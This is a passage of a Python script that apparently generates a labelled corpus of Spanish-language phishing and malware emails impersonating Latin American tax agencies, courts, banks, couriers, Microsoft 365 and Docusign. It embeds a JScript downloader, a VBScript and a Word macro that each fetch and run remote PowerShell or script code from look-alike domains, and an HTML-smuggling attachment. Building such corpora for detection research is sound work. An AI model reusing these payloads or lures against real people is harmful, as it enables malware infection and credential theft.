         "Si no lo haces, tu cuenta se cancela y la plata que tengas la devolvemos en 60 días hábiles. Verifícate en un minuto:"],
        ("Verificar mi Nequi", "https://cutt.ly/nEquiVal1d"),
        ["Nequi - Bancolombia", "Este correo se envía automáticamente."],
        "Nequi 'cuenta será cancelada' identity-verification lure from a look-alike .co domain with a cutt.ly "
        "shortener, received on a company Zimbra mailbox.", mx="mail.inversionesmedellin.com.co")


def phish_dian_embargo_dropbox() -> None:
    stem = "b45-phish-dian-embargo-dropbox"
    d = when(2025, 3, 26, 8, 55, 21, "co")
    comp = "constructoraeljardin.com.co"
    sender = f"gerencia@{comp}"
    rcpt = "camilo.ortega.contador@gmail.com"
    dbx = (f"https://www.dropbox.com/scl/fi/{tok(stem + 'dbx', 25, string.ascii_lowercase + DIG)}/"
           f"Embargo_DIAN_Proceso_2025-0418.zip?rlkey={tok(stem + 'rl', 25, string.ascii_lowercase + DIG)}&st={tok(stem + 'st', 8, string.ascii_lowercase + DIG)}&dl=1")
    paras = [
        "<b>DIRECCIÓN DE IMPUESTOS Y ADUANAS NACIONALES - DIAN</b>",
        "División de Gestión de Cobranzas",
        "",
        "Señor contribuyente:",
        "Se le comunica que dentro del <b>Proceso Administrativo de Cobro Coactivo No. 2025-0418</b> se profirió "
        "mandamiento de pago y se ordenó el <b>embargo de sus cuentas bancarias</b> por obligaciones pendientes de "
        "renta y complementarios del año gravable 2023.",
        f"Puede consultar la resolución y el estado de cuenta en el siguiente enlace: <a href=\"{dbx}\">Resolución "
        "de embargo (PDF)</a>",
        "Contraseña del documento: <b>DIAN2025</b>",
        "",
        "Atentamente,",
        "DIAN - Gestión de Cobranzas",
    ]
    html = outlook_html(paras)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n"
    sh, hop = m365_sender(comp, sender, d, stem)
    mid = hop["msgid"]
    sh[2] = dkim_sig(comp, "selector2", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    env = Env("gmail", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [(comp, "selector2", "pass")],
              ("pass", "none"), comp)
    own = sh + [
        f"From: {addr('DIAN Cobro Coactivo', sender)}",
        f"To: {rcpt}",
        subj("Notificación mandamiento de pago y embargo - Proceso 2025-0418"),
        *outlook_client_headers(stem, d, "Notificación mandamiento de pago y embargo - Proceso 2025-0418", lang="es-CO"),
        f"Date: {rfc(d)}", f"Message-ID: {mid}", "MIME-Version: 1.0"]
    emit(stem, "phishing", "DIAN 'cobro coactivo y embargo' lure from a compromised construction company's Microsoft 365 "
         "mailbox, linking to a Dropbox direct download of a password-protected zip (banking-trojan dropper).", env, own,
         alt(plain, html, outlook_boundary(mid)))


def phish_simit_fotomulta() -> None:
    stem = "b45-phish-simit-fotomulta"
    d = when(2025, 9, 2, 6, 48, 13, "co")
    dom = "simit-pagos.com"
    simple_brand_phish(
        stem, d, dom, contabo(stem), "outlook", "diana.marcela.v@outlook.com", "SIMIT", "notificaciones",
        "Comparendo electrónico pendiente - Pague con 50% de descuento", "SIMIT", "#0b3c7a",
        "Tiene un comparendo por fotodetección pendiente",
        ["Señor(a) ciudadano(a):",
         "Le informamos que se registró un <b>comparendo por fotodetección No. 11001000000044187392</b> (código C29, "
         "exceso de velocidad) asociado a su documento.",
         "<b>Valor: $ 711.750</b>. Si paga dentro de los próximos 5 días hábiles obtiene un <b>descuento del 50%</b>. "
         "Vencido este plazo el valor será reportado para cobro coactivo."],
        ("Consultar y pagar", f"https://{dom}/estado-cuenta/?doc={tok(stem, 10, DIG)}"),
        ["SIMIT - Federación Colombiana de Municipios"],
        "SIMIT speed-camera fotomulta lure offering a 50% discount, look-alike domain linking to a PSE-style payment page.",
        country="DE")


def phish_servientrega_js() -> None:
    stem = "b45-phish-servientrega-js"
    d = when(2024, 10, 8, 9, 21, 33, "co")
    dom = "servientrega-guias.net"
    vps = ovh(stem)
    rcpt = "bodega@distribuidoracaribe.com.co"
    js = ("var s=new ActiveXObject('WScript.Shell');\r\n"
          "var f=s.ExpandEnvironmentStrings('%APPDATA%')+'\\\\g.vbs';\r\n"
          "var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','https://servientrega-guias.net/g/a.txt',false);x.send();\r\n"
          "var o=new ActiveXObject('Scripting.FileSystemObject').CreateTextFile(f,true);o.Write(x.responseText);o.Close();\r\n"
          "s.Run('wscript \"'+f+'\"',0,false);\r\n")
    z = files.zip_archive([("Guia_Servientrega_2154887412.js", js.encode())])
    paras = [
        "Buen día,",
        "Su envío con guía <b>No. 2154887412</b> no pudo ser entregado por inconsistencias en la dirección registrada.",
        "Adjuntamos la guía digital con el detalle del envío. Por favor descárguela y verifique la información para "
        "programar una nueva entrega sin costo.",
        "Servientrega S.A. - Centro de Soluciones",
    ]
    html = kit_html(paras)
    plain = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    body = Multi("mixed", phpmailer_boundary(stem), [
        alt(plain, html, phpmailer_boundary(stem + "a")),
        attachment("application/zip", "Guia_Servientrega_2154887412.zip", z),
    ])
    env = Env("zimbra", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"guias@{dom}", "pass",
              [(dom, "default", "pass")], None, dom, mx="mail.distribuidoracaribe.com.co")
    own = kit_own(d, addr("Servientrega", f"guias@{dom}"), rcpt, "Guía No. 2154887412 - Novedad en la entrega",
                  kit_msgid(dom, stem), stem, dkim=(dom, "default"))
    emit(stem, "malware", "Servientrega delivery-problem lure from a look-alike domain carrying a zip with a JScript "
         "downloader posing as the digital waybill.", env, own, body)


def phish_demanda_rama_smuggling() -> None:
    stem = "b45-phish-demanda-rama-smuggling"
    d = when(2025, 7, 1, 14, 6, 50, "co")
    dom = "ramajudicial-notificaciones.com"
    vps = hostinger(stem)
    rcpt = "jorge.ivan.munera@outlook.com"
    vbs = ("Set w = CreateObject(\"WScript.Shell\")\r\n"
           "w.Run \"powershell -w 1 -ep bypass -c \"\"iwr https://juzgado12-bogota.com/p/x.txt|iex\"\"\", 0\r\n")
    inner = files.zip_archive([("Demanda_Rad_11001400301220250041800.vbs", vbs.encode())])
    blob = base64.b64encode(inner).decode()
    chunks = "\n".join(f"'{blob[i:i + 76]}'+" for i in range(0, len(blob), 76)) + "''"
    html_att = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Rama Judicial - Consulta de Procesos</title></head>
<body style="font-family:Arial;background:#f1f1f1;text-align:center;padding-top:80px">
<img src="https://www.ramajudicial.gov.co/image/layout_set_logo?img_id=79612" height="70"><br>
<h3>Descargando documento de notificación...</h3><p>Si la descarga no inicia, haga clic <a id="l" href="#">aquí</a>.</p>
<p style="color:#666">Contraseña del archivo: 2025</p>
<script>
var d=
{chunks};
function b(s){{var r=atob(s),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a}}
var f=new Blob([b(d)],{{type:'application/zip'}}),u=URL.createObjectURL(f),l=document.getElementById('l');
l.href=u;l.download='Demanda_Rad_11001400301220250041800.zip';setTimeout(function(){{l.click()}},800);
</script></body></html>
"""
    paras = [
        "<b>RAMA JUDICIAL DEL PODER PÚBLICO</b><br>JUZGADO DOCE (12) CIVIL MUNICIPAL DE BOGOTÁ D.C.",
        "Radicado: 11001-40-03-012-2025-00418-00<br>Proceso: EJECUTIVO SINGULAR<br>Demandado: JORGE IVÁN MÚNERA",
        "Por medio del presente se le <b>NOTIFICA PERSONALMENTE</b> el auto admisorio de la demanda conforme al "
        "artículo 8 de la Ley 2213 de 2022. Se entenderá surtida la notificación transcurridos dos días hábiles.",
        "Se adjunta el traslado de la demanda y sus anexos. Contraseña: <b>2025</b>",
        "Secretaría - Juzgado 12 Civil Municipal de Bogotá",
    ]
    html = kit_html(paras)
    plain = "\n\n".join(strip_tags(p) for p in paras) + "\n"
    body = Multi("mixed", phpmailer_boundary(stem), [
        alt(plain, html, phpmailer_boundary(stem + "a")),
        attachment("text/html", "Notificacion_Demanda_Rad_2025-00418.html", html_att.encode()),
    ])
    env = Env("outlook", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"notificaciones@{dom}", "pass",
              [(dom, "default", "pass")], ("none", "none"), dom)
    own = kit_own(d, addr("Juzgado 12 Civil Municipal de Bogotá", f"notificaciones@{dom}"), rcpt,
                  "NOTIFICACIÓN PERSONAL AUTO ADMISORIO DEMANDA - RAD. 2025-00418", kit_msgid(dom, stem), stem,
                  dkim=(dom, "default"))
    emit(stem, "malware", "Rama Judicial 'notificación de demanda' lure with an HTML attachment that smuggles a zip "
         "(VBScript downloader) out of an embedded base64 blob and auto-downloads it.", env, own, body)


def phish_epm_factura() -> None:
    stem = "b45-phish-epm-factura"
    d = when(2024, 6, 17, 12, 3, 27, "co")
    dom = "epm-pagos.com.co"
    simple_brand_phish(
        stem, d, dom, hostwinds(stem), "gmail", "sandra.patricia.gil@gmail.com", "EPM", "facturacion",
        "Su factura EPM presenta mora - Evite la suspensión", "EPM", "#00843d", "Aviso de suspensión por mora",
        ["Estimado usuario:",
         "Su factura de servicios públicos (energía, acueducto y gas) del contrato <b>No. 4128873</b> presenta "
         "<b>2 periodos vencidos por $ 487.300</b>.",
         "Para evitar la suspensión del servicio y el cobro de reconexión, realice el pago en línea por PSE hoy mismo."],
        ("Pagar por PSE", f"https://{dom}/pagos/pse/?contrato=4128873"),
        ["Empresas Públicas de Medellín E.S.P."],
        "EPM overdue-utility-bill lure (suspension threat) from a look-alike .com.co domain linking to a fake PSE payment page.")


# --------------------------------------------------------------------------------------------------
# attacks: Peru and Ecuador
# --------------------------------------------------------------------------------------------------


def phish_bcp_token() -> None:
    stem = "b45-phish-bcp-token"
    d = when(2025, 4, 2, 8, 17, 40, "pe")
    dom = "viabcp-token.com"
    simple_brand_phish(
        stem, d, dom, contabo(stem), "gmail", "kevin.huaman.q@gmail.com", "BCP", "notificaciones",
        "Tu Token Digital ha sido desactivado", "BCP", "#002a8d", "Tu Token Digital fue desactivado",
        ["Estimado cliente:",
         "Por disposición de la SBS tu <b>Token Digital</b> ha sido desactivado por no haber completado la "
         "actualización de seguridad.",
         "Para volver a activarlo ingresa a Banca por Internet con tu número de tarjeta y clave de 6 dígitos. "
         "Si no lo activas hoy, tus operaciones quedarán restringidas."],
        ("Activar Token Digital", f"https://{dom}/bcp/token/activar?k={tok(stem, 12, ALNUM)}"),
        ["Banco de Crédito del Perú", "Este correo es informativo, por favor no respondas."],
        "BCP 'Token Digital desactivado' lure citing the SBS, look-alike domain linking to a card-number and 6-digit "
        "password page.")


def phish_yape_suspension() -> None:
    stem = "b45-phish-yape-suspension"
    d = when(2025, 6, 25, 19, 30, 1, "pe")
    dom = "yape-verificacion.com"
    simple_brand_phish(
        stem, d, dom, hostinger(stem), "outlook", "milagros.quispe.t@hotmail.com", "Yape", "soporte",
        "Tu Yape será suspendido: actualiza tus datos", "yape", "#742384", "Actualiza tus datos para seguir yapeando",
        ["¡Hola!",
         "Tu cuenta Yape tiene datos desactualizados. Para cumplir con la normativa de la SBS necesitamos que los "
         "actualices hoy, o tu Yape será suspendido y no podrás enviar ni recibir pagos.",
         "Solo necesitas tu DNI, tu número de celular y tu tarjeta BCP."],
        ("Actualizar mis datos", "https://acortar.link/yApe5u"),
        ["Yape - Un servicio de BCP"],
        "Yape account-suspension lure from a look-alike domain with an acortar.link shortener to a page asking for DNI, "
        "phone and BCP card.", country="US")


def phish_sunat_docm() -> None:
    stem = "b45-phish-sunat-docm"
    d = when(2024, 11, 19, 9, 40, 7, "pe")
    comp = "comercialsanjuan.com.pe"
    sender = f"contabilidad@{comp}"
    rcpt = "gerencia@agroexportnorte.com.pe"
    macro = ("Sub AutoOpen()\r\n    Dim s As String\r\n    s = \"powershell -w hidden -c \"\"iwr https://sunat-notifica.com/r.ps1 | iex\"\"\"\r\n"
             "    CreateObject(\"WScript.Shell\").Run s, 0, False\r\nEnd Sub\r\n")
    doc = files.docx(["SUNAT - Superintendencia Nacional de Aduanas y de Administración Tributaria",
                      "RESOLUCIÓN DE MULTA N° 0230-002-0145872",
                      "Contenido protegido. Haga clic en 'Habilitar contenido' para visualizar el documento."],
                     "Resolucion de Multa", "SUNAT", macro=macro)
    paras = [
        "Señores:",
        "Se le notifica la <b>Resolución de Multa N° 0230-002-0145872</b> emitida por la Intendencia Regional Lima, por "
        "la infracción tipificada en el numeral 1 del artículo 176 del Código Tributario.",
        "El documento se encuentra adjunto. Para su visualización habilite la edición y el contenido.",
        "Plazo para presentar reclamación: 20 días hábiles.",
        "",
        "SUNAT - Notificaciones SOL",
    ]
    html = outlook_html(paras)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n"
    sh, hop = m365_sender(comp, sender, d, stem)
    mid = hop["msgid"]
    sh[2] = dkim_sig(comp, "selector1", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    body = Multi("mixed", outlook_boundary(mid, "004"), [
        alt(plain, html, outlook_boundary(mid)),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "Resolucion_Multa_0230-002-0145872.docm", doc),
    ])
    env = Env("m365", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [(comp, "selector1", "pass")],
              ("pass", "none"), comp, country="US")
    own = sh + [
        f"From: {addr('SUNAT - Notificaciones SOL', sender)}",
        f"To: {rcpt}",
        subj("Notificación SUNAT: Resolución de Multa N° 0230-002-0145872"),
        *outlook_client_headers(stem, d, "Notificación SUNAT: Resolución de Multa N° 0230-002-0145872", attach=True, lang="es-PE"),
        f"Date: {rfc(d)}", f"Message-ID: {mid}", "MIME-Version: 1.0"]
    emit(stem, "malware", "SUNAT 'Resolución de Multa' lure sent from a compromised Peruvian company's Microsoft 365 mailbox "
         "with a macro-enabled .docm (AutoOpen PowerShell downloader).", env, own, body)


def phish_olva_entrega() -> None:
    stem = "b45-phish-olva-entrega"
    d = when(2025, 12, 9, 13, 52, 48, "pe")
    dom = "olva-courier-pe.com"
    simple_brand_phish(
        stem, d, dom, ovh(stem), "gmail", "rosa.mamani.ch@gmail.com", "Olva Courier", "envios",
        "No pudimos entregar tu paquete - actualiza tu dirección", "OLVA COURIER", "#003a8c",
        "Tu paquete no pudo ser entregado",
        ["Hola,",
         "Tu paquete con tracking <b>OLV-20518847</b> no pudo ser entregado porque la dirección está incompleta.",
         "Actualiza tu dirección y paga la tarifa de reenvío de <b>S/ 4.90</b> para recibirlo en 24 horas."],
        ("Actualizar dirección", f"https://{dom}/tracking/OLV-20518847"),
        ["Olva Courier S.A.C."],
        "Olva Courier failed-delivery lure asking for a S/ 4.90 re-delivery fee on a look-alike domain (card harvesting).")


def phish_sat_papeleta() -> None:
    stem = "b45-phish-sat-papeleta"
    d = when(2025, 2, 25, 7, 5, 39, "pe")
    dom = "sat-lima-pagos.com"
    simple_brand_phish(
        stem, d, dom, contabo(stem), "outlook", "jcardenas.v@outlook.com", "SAT Lima", "papeletas",
        "Papeleta pendiente: pague hoy con 83% de descuento", "SAT", "#c8102e", "Tiene una papeleta de tránsito pendiente",
        ["Estimado contribuyente:",
         "El Servicio de Administración Tributaria de Lima le informa que registra la papeleta <b>G-57</b> "
         "(estacionar en lugar prohibido) por <b>S/ 535.00</b> asociada a su placa.",
         "Por campaña de regularización puede pagarla con un <b>descuento del 83%</b> solo hasta hoy. Luego pasará a "
         "cobranza coactiva con captura del vehículo."],
        ("Ver papeleta y pagar", f"https://{dom}/papeletas/consulta?placa={tok(stem, 6, string.ascii_uppercase + DIG)}"),
        ["SAT - Municipalidad Metropolitana de Lima"],
        "SAT Lima papeleta lure with an 83% same-day discount and vehicle-capture threat, look-alike domain linking "
        "to a card-payment page.")


def phish_pichincha_php() -> None:
    stem = "b45-phish-pichincha-php"
    d = when(2024, 9, 3, 10, 44, 5, "ec")
    srv = "ferreteriaquito.com.ec"
    rcpt = "paola.andrade.m@gmail.com"
    link = "https://bancapichincha-ec.com/personas/actualizacion/"
    title = "Su cuenta ha sido suspendida"
    paras = [
        "Estimado cliente:",
        "Le informamos que su cuenta de <b>Banca Web Pichincha</b> ha sido suspendida temporalmente por no haber "
        "actualizado su información conforme a la normativa de la Superintendencia de Bancos.",
        "Para reactivar su cuenta ingrese a nuestro portal y complete la actualización en menos de 5 minutos.",
    ]
    button = ("Reactivar mi cuenta", link)
    footer = ["Banco Pichincha C.A.", "Por favor no responda a este mensaje."]
    html = brand_html("Banco Pichincha", "#ffdd00", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    ip = f"186.46.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}"
    env = Env("gmail", rcpt, d, ip, f"host-{ip.replace('.', '-')}.netlife.ec", f"server.{srv}",
              f"info@{srv}", "softfail", [], ("fail", "none"), srv)
    own = kit_own(d, addr("Banco Pichincha", f"info@{srv}"), rcpt, title + " - Banca Web", f"<{tok(stem, 32, ALNUM)}@{srv}>",
                  stem, mailer="PHPMailer 6.1.4 (https://github.com/PHPMailer/PHPMailer)")
    emit(stem, "phishing", "Banco Pichincha 'cuenta suspendida' lure sent by a PHP mailer from a compromised Ecuadorian "
         "hardware-store site's domain (SPF softfail), linking to a look-alike banking page.", env, own,
         alt(plain, html, phpmailer_boundary(stem)))


def phish_sri_onedrive() -> None:
    stem = "b45-phish-sri-onedrive"
    d = when(2025, 5, 14, 15, 36, 12, "ec")
    sender = "sri.notificaciones.ec@gmail.com"
    rcpt = "contabilidad@importadoraandina.ec"
    link = f"https://1drv.ms/b/c/{hexs(stem + 'od', 16)}/E{tok(stem + 'od2', 45, URLSAFE)}?e={tok(stem + 'e', 6, ALNUM)}"
    paras = [
        "Estimado contribuyente,",
        "",
        "El Servicio de Rentas Internas le notifica que se ha generado una <b>Liquidación de Pago por Diferencias en la "
        "Declaración</b> del Impuesto a la Renta 2024.",
        f"Puede revisar el documento en el siguiente enlace de OneDrive: <a href=\"{link}\">Liquidacion_SRI_2025-0977.pdf</a>",
        "",
        "Tiene 10 días hábiles para presentar sus justificativos.",
        "",
        "Servicio de Rentas Internas",
        "Dirección Zonal 9",
    ]
    html = gmail_html(paras)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n"
    sh, hop = gmail_sender(sender, d, stem)
    env = Env("postfix", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [("gmail.com", "20230601", "pass")],
              ("pass", "none"), "gmail.com", mx="mail.importadoraandina.ec")
    own = sh + [f"From: {addr('SRI Notificaciones', sender)}", f"Date: {rfc(d)}", f"Message-ID: {gmail_msgid(stem)}",
                subj("Notificación SRI - Liquidación de pago por diferencias 2025-0977"), f"To: {rcpt}"]
    emit(stem, "phishing", "SRI Ecuador 'liquidación de pago por diferencias' lure from a Gmail account, linking to a OneDrive "
         "shared PDF that leads on to a credential page.", env, own, alt(plain, html, gmail_boundary(stem)))


# --------------------------------------------------------------------------------------------------
# attacks: companies (Microsoft 365, platforms, BEC) and fraud
# --------------------------------------------------------------------------------------------------


def phish_m365_cuarentena() -> None:
    stem = "b45-phish-m365-cuarentena"
    d = when(2025, 9, 16, 8, 3, 22, "cl")
    dom = "vinaslomas-cl.com"
    rcpt = "mjose.espinoza@vinaslomas.cl"
    vps = ovh(stem)
    link = f"https://pub-{hexs(stem + 'r2', 32)}.r2.dev/m365/index.html#{base64.b64encode(rcpt.encode()).decode()}"
    rows = "".join(
        f'<tr><td style="padding:6px;border-bottom:1px solid #e1e1e1">{s}</td><td style="padding:6px;border-bottom:1px solid #e1e1e1">{f}</td>'
        f'<td style="padding:6px;border-bottom:1px solid #e1e1e1">{t}</td></tr>'
        for s, f, t in [("Orden de compra OC-7741 aprobada", "adquisiciones@cencosud-proveedores.cl", "15/09/2025 17:42"),
                        ("RE: Pago factura 20394", "tesoreria@bancochile.cl", "15/09/2025 18:10"),
                        ("Documentos exportación septiembre", "logistica@tradeport.cl", "16/09/2025 06:55"),
                        ("Invitación: Comité de gerencia", "gerencia@vinaslomas.cl", "16/09/2025 07:20"),
                        ("Liquidación de sueldo agosto", "rrhh@vinaslomas.cl", "16/09/2025 07:41")])
    html = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#323130">
<table width="640" cellpadding="0" cellspacing="0" style="border:1px solid #e1e1e1">
<tr><td style="background:#0078d4;color:#fff;padding:14px 20px;font-size:18px">Microsoft 365 &middot; Centro de seguridad</td></tr>
<tr><td style="padding:20px">
<p>Hola {rcpt},</p>
<p>Tiene <b>5 mensajes nuevos</b> retenidos en cuarentena que requieren su revisión. Los mensajes se eliminarán automáticamente en 3 días.</p>
<table width="100%" cellpadding="0" cellspacing="0" style="font-size:13px"><tr style="background:#f3f2f1"><th align="left" style="padding:6px">Asunto</th><th align="left" style="padding:6px">Remitente</th><th align="left" style="padding:6px">Recibido</th></tr>
{rows}</table>
<p style="margin-top:22px"><a href="{link}" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none">Revisar mensajes</a>
&nbsp; <a href="{link}&amp;a=release" style="color:#0078d4">Liberar todos</a></p>
<p style="font-size:12px;color:#605e5c">Este mensaje fue enviado desde una dirección de solo envío para vinaslomas.cl. No responda.</p>
</td></tr></table></body></html>
"""
    plain = (f"Hola {rcpt},\n\nTiene 5 mensajes nuevos retenidos en cuarentena que requieren su revisión.\n\n"
             f"Revisar mensajes: {link}\n")
    env = Env("m365", rcpt, d, vps["ip"], vps["rdns"], f"mail.{dom}", f"quarantine@{dom}", "pass",
              [(dom, "default", "pass")], ("none", "none"), dom, country="FR")
    own = kit_own(d, addr("Microsoft 365 | vinaslomas.cl", f"quarantine@{dom}"), rcpt,
                  "Tiene 5 mensajes retenidos en cuarentena - vinaslomas.cl", kit_msgid(dom, stem), stem,
                  dkim=(dom, "default"), mailer=None)
    emit(stem, "phishing", "Microsoft 365 'mensajes retenidos en cuarentena' kit against a Chilean winery from a hyphenated "
         "look-alike of its domain, linking to a Cloudflare R2 (r2.dev) page with the victim's address in the fragment.",
         env, own, alt(plain, html, phpmailer_boundary(stem)))


def docusign_html(sender_name: str, sender_mail: str, doc: str, message_text: str, link: str, lang_review: str) -> str:
    return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background-color:#eaeaea">
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="background-color:#eaeaea"><tr><td style="padding:2% 2%">
<table role="presentation" border="0" cellspacing="0" cellpadding="0" align="center" width="100%" style="max-width:640px;background-color:#ffffff">
<tr><td style="padding:10px 24px"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="Docusign" height="30" style="border:none"></td></tr>
<tr><td style="padding:0 24px 30px 24px"><table role="presentation" border="0" cellspacing="0" cellpadding="0" width="100%" align="center" style="background-color:#1e4ca1;color:#ffffff">
<tr><td align="center" style="padding:28px 24px;font-family:Helvetica,Arial,Sans Serif;font-size:16px;color:#ffffff;line-height:24px">
<img src="https://na4.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""><br>
{sender_name} le envió un documento para revisar y firmar.
<table border="0" cellspacing="0" cellpadding="0" style="padding-top:24px"><tr><td align="center" style="font-size:15px;font-weight:bold;font-family:Helvetica,Arial,Sans Serif;background-color:#ffc423;border-radius:2px;display:block">
<a href="{link}" style="font-size:15px;color:#333333;text-decoration:none;font-weight:bold;font-family:Helvetica,Arial,Sans Serif;display:inline-block;padding:0 24px;line-height:44px">{lang_review}</a>
</td></tr></table></td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;color:#000000;font-size:16px;font-family:Helvetica,Arial,Sans Serif;line-height:20px">
<b>{sender_name}</b><br><a href="mailto:{sender_mail}" style="color:#2463d1">{sender_mail}</a><br><br>{message_text}</td></tr>
<tr><td style="padding:0 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,Sans Serif;font-size:11px;color:#666666">
<b>No comparta este correo electrónico</b><br>Este correo contiene un vínculo seguro a Docusign. No comparta este correo, vínculo ni código de acceso con otras personas.<br><br>
<b>Método de firma alternativo</b><br>Visite Docusign.com, haga clic en 'Access Documents' e ingrese el código de seguridad:<br>{tok(link, 32, HEXU)}4<br><br>
<b>Acerca de Docusign</b><br>Firme documentos electrónicamente en solo minutos. Es seguro. Tanto si está en una oficina, en su casa o de viaje, Docusign brinda una solución profesional y confiable para la gestión de transacciones digitales.<br><br>
<b>¿Tiene preguntas sobre el documento?</b><br>Si necesita modificar un documento o tiene preguntas sobre sus detalles, comuníquese con el remitente directamente por correo electrónico.<br><br>
<a href="https://support.docusign.com/s/articles/How-do-I-report-allegedly-malicious-activity" style="color:#2463d1">Denunciar este correo electrónico</a> o lea más sobre <a href="https://www.docusign.com/trust/security/esignature" style="color:#2463d1">Docusign y la seguridad</a>.<br><br>
Este mensaje fue enviado a usted por {sender_name} que está utilizando el servicio de firma electrónica Docusign. Si prefiere no recibir correos de este remitente, puede comunicarse directamente con él.
</td></tr></table></td></tr></table></body></html>
"""


def docusign_mail(stem: str, d: datetime, env_provider: str, rcpt: str, rcpt_name: str, sender_name: str, sender_mail: str,
                  doc: str, message_text: str, folder: str, description: str, mx: str = "") -> None:
    acct = guid(stem + "acct")
    link = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={guid(stem + 'a')}&etti=24&acct={acct}"
            f"&er={guid(stem + 'er')}")
    html = docusign_html(sender_name, sender_mail, doc, message_text, link, "REVISAR DOCUMENTO")
    plain = (f"{sender_name} le envió un documento para revisar y firmar.\r\n\r\n"
             f"REVISAR DOCUMENTO\r\n{link}\r\n\r\n{sender_name}\r\n{sender_mail}\r\n\r\n{strip_tags(message_text)}\r\n\r\n"
             "No comparta este correo electrónico\r\nEste correo contiene un vínculo seguro a Docusign.\r\n")
    ip = f"64.207.219.{num(stem, 70, 140)}"
    mf = "dse_NA4@docusign.net"
    env = Env(env_provider, rcpt, d, ip, f"mailna4.docusign.net", "mailna4.docusign.net", mf, "pass",
              [("docusign.net", "mail", "pass")], ("pass", "reject"), "docusign.net", mx=mx, country="US")
    own = [dkim_sig("docusign.net", "mail", d, stem, h="From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type:Date"),
           f"Received: from docusign.net (10.216.{num(stem + 'i', 1, 250)}.{num(stem + 'j', 1, 250)}) by mailna4.docusign.net id {hexs(stem + 'id', 16)} for <{rcpt}>; {rfc(d.astimezone(PACIFIC))}",
           f"From: {addr(sender_name + ' via Docusign', mf, quote=True)}",
           f"Reply-To: {addr(sender_name, sender_mail, quote=True)}",
           f"To: {addr(rcpt_name, rcpt, quote=True)}",
           f"Message-ID: <{hexs(stem + 'dm', 32)}@docusign.net>",
           subj(f"Complete con Docusign: {doc}"),
           "MIME-Version: 1.0",
           f"Date: {rfc(d.astimezone(PACIFIC))}",
           f"X-DocuSign-EnvelopeId: {guid(stem + 'env')}",
           f"X-Api-Host: {acct}"]
    emit(stem, folder, description, env, own, alt(plain, html, java_boundary(stem, d), "quoted-printable"))


def phish_docusign_contrato() -> None:
    stem = "b45-phish-docusign-contrato"
    d = when(2025, 10, 29, 12, 18, 4, "ar")
    docusign_mail(
        stem, d, "m365", "vanesa.molina@agrocampo.com.ar", "Vanesa Molina", "Estudio Paz & Asociados",
        "estudiopazyasoc.legales@gmail.com", "Acuerdo de pago y conciliación - AGROCAMPO S.A.",
        "Estimada Dra. Molina: le remitimos el acuerdo de conciliación para su firma. El documento incluye el enlace al "
        "expediente digital en el Portal del Poder Judicial; ingrese con su cuenta corporativa de Microsoft para "
        "visualizar los anexos. Saludos cordiales.",
        "phishing",
        "Genuine Docusign envelope (docusign.net, SPF/DKIM/DMARC pass) sent by a throw-away account under a law-firm name "
        "with a Gmail reply-to; the signed document leads to a Microsoft login harvest page.")


def phish_sharepoint_proveedor() -> None:
    stem = "b45-phish-sharepoint-proveedor"
    d = when(2025, 1, 21, 10, 47, 30, "pe")
    rcpt = "compras@textilesdelsur.com.pe"
    sharer = "Rosa Quispe Huamán"
    tenant = "distribuidoraandinasac"
    link = (f"https://{tenant}-my.sharepoint.com/:o:/g/personal/rquispe_distribuidoraandina_com_pe/"
            f"E{tok(stem + 'sp', 45, URLSAFE)}?e={tok(stem + 'e', 6, ALNUM)}")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:'Segoe UI',Tahoma,sans-serif;max-width:520px;margin:0 auto;padding:24px;border:1px solid #edebe9">
<table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="width:40px;height:40px;border-radius:50%;background:#ca5010;color:#fff;text-align:center;font-size:15px">RQ</td>
<td style="padding-left:12px;font-size:18px;color:#242424">{sharer} compartió un archivo con usted</td></tr></table>
<p style="font-size:14px;color:#242424;margin:20px 0">Buenos días, les comparto la Orden de Compra actualizada con las nuevas condiciones de pago. Favor revisar y confirmar. Saludos.</p>
<table role="presentation" cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd;width:100%"><tr>
<td style="padding:12px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/one.png" width="32" height="32" alt=""></td>
<td style="padding:12px;font-size:14px;color:#242424">OC-2025-0412 Distribuidora Andina</td></tr></table>
<p style="margin:24px 0"><a href="{link}" style="background:#0f6cbd;color:#fff;padding:8px 20px;border-radius:4px;text-decoration:none;font-size:14px">Abrir</a></p>
<p style="font-size:12px;color:#616161">Este vínculo solo funciona para los destinatarios directos de este mensaje.</p>
<p style="font-size:12px;color:#616161"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/brand-icons/product/png/microsoft_96x1.png" width="16" alt=""> Microsoft</p>
